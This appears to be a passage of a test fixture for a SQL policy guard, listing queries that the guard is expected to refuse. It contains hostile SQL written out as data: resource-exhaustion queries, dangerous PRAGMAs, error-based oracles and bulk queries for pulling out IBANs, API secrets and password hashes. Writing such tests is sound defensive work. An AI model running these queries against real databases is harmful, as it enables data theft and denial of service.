UNION SELECT 1

-- refuse: invalid_sql
SELECT * FROM orders WHERE NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT 1

-- refuse: invalid_sql
SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT 1))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
WITH c0 AS (SELECT * FROM orders), c1 AS (SELECT * FROM c0 a, c0 b), c2 AS (SELECT * FROM c1 a, c1 b), c3 AS (SELECT * FROM c2 a, c2 b), c4 AS (SELECT * FROM c3 a, c3 b), c5 AS (SELECT * FROM c4 a, c4 b), c6 AS (SELECT * FROM c5 a, c5 b), c7 AS (SELECT * FROM c6 a, c6 b), c8 AS (SELECT * FROM c7 a, c7 b), c9 AS (SELECT * FROM c8 a, c8 b), c10 AS (SELECT * FROM c9 a, c9 b), c11 AS (SELECT * FROM c10 a, c10 b), c12 AS (SELECT * FROM c11 a, c11 b), c13 AS (SELECT * FROM c12 a, c12 b), c14 AS (SELECT * FROM c13 a, c13 b), c15 AS (SELECT * FROM c14 a, c14 b), c16 AS (SELECT * FROM c15 a, c15 b), c17 AS (SELECT * FROM c16 a, c16 b), c18 AS (SELECT * FROM c17 a, c17 b), c19 AS (SELECT * FROM c18 a, c18 b), c20 AS (SELECT * FROM c19 a, c19 b), c21 AS (SELECT * FROM c20 a, c20 b), c22 AS (SELECT * FROM c21 a, c21 b), c23 AS (SELECT * FROM c22 a, c22 b), c24 AS (SELECT * FROM c23 a, c23 b), c25 AS (SELECT * FROM c24 a, c24 b), c26 AS (SELECT * FROM c25 a, c25 b), c27 AS (SELECT * FROM c26 a, c26 b), c28 AS (SELECT * FROM c27 a, c27 b), c29 AS (SELECT * FROM c28 a, c28 b) SELECT count(*) FROM c29


-- class: configuration

-- refuse: policy_refused
PRAGMA writable_schema = 1

-- refuse: policy_refused
PRAGMA journal_mode = DELETE

-- refuse: policy_refused
PRAGMA foreign_keys = OFF

-- refuse: policy_refused
PRAGMA query_only = 0

-- refuse: policy_refused
PRAGMA trusted_schema = 1

-- refuse: policy_refused
PRAGMA key = 'x'

-- refuse: policy_refused
PRAGMA main.cache_size = 999999999

-- refuse: policy_refused
PRAGMA mmap_size = 1099511627776

-- refuse: policy_refused
PRAGMA user_version = 7

-- refuse: policy_refused
PRAGMA wal_checkpoint(TRUNCATE)

-- refuse: policy_refused
PRAGMA integrity_check

-- refuse: policy_refused
PRAGMA optimize

-- refuse: policy_refused
PRAGMA load_extension

-- refuse: policy_refused
PRAGMA case_sensitive_like = 1

-- refuse: policy_refused
PRAGMA hard_heap_limit = 0

-- refuse: policy_refused
PRAGMA hr.table_list

-- refuse: policy_refused
SET search_path = hr

-- refuse: policy_refused
USE hr

-- refuse: policy_refused
GRANT ALL ON orders TO me

-- refuse: policy_refused
SHOW TABLES

-- refuse: policy_refused
DESCRIBE orders

-- refuse: policy_refused
CALL x()

-- refuse: policy_refused
KILL 1


-- class: oracles

-- refuse: policy_refused
SELECT CASE WHEN (SELECT count(*) FROM hr.salaries) > 1 THEN 1 ELSE abs(-9223372036854775808) END

-- refuse: policy_refused
SELECT abs(-9223372036854775808) FROM hr.salaries

-- refuse: policy_refused
SELECT iif((SELECT substr(iban, 1, 1) FROM hr.salaries LIMIT 1) = 'C', hex(zeroblob(100000000)), 0)

-- refuse: policy_refused
SELECT CASE WHEN (SELECT secret FROM admin.api_keys) LIKE 'C%' THEN randomblob(900000000) END

-- refuse: policy_refused
SELECT json((SELECT secret FROM admin.api_keys))

-- refuse: policy_refused
SELECT json_extract('{}', (SELECT iban FROM hr.salaries LIMIT 1))

-- refuse: policy_refused
SELECT load_extension((SELECT password_hash FROM admin.users LIMIT 1))

-- refuse: policy_refused
SELECT RAISE(ABORT, 'CANARY')

-- refuse: policy_refused
SELECT name FROM customers ORDER BY CASE WHEN EXISTS (SELECT 1 FROM admin.users) THEN name END

-- refuse: policy_refused
SELECT 1 / (SELECT count(*) FROM admin.users WHERE login = 'root')


-- class: bulk-disclosure

-- refuse: policy_refused
SELECT group_concat(iban) FROM hr.salaries

-- refuse: policy_refused
SELECT json_group_array(json_object('u', login, 'p', password_hash)) FROM admin.users

-- refuse: policy_refused
SELECT min(salary), max(salary), avg(salary) FROM hr.salaries

-- refuse: policy_refused
SELECT grade, count(*) FROM hr.reviews GROUP BY grade HAVING count(*) = 1

-- refuse: policy_refused
SELECT c.name, s.iban FROM customers c CROSS JOIN hr.salaries s

-- refuse: policy_refused
SELECT first_value(secret) OVER () FROM admin.api_keys

-- refuse: policy_refused
SELECT DISTINCT login FROM admin.users

-- refuse: policy_refused
SELECT hex(group_concat(secret)) FROM admin.api_keys
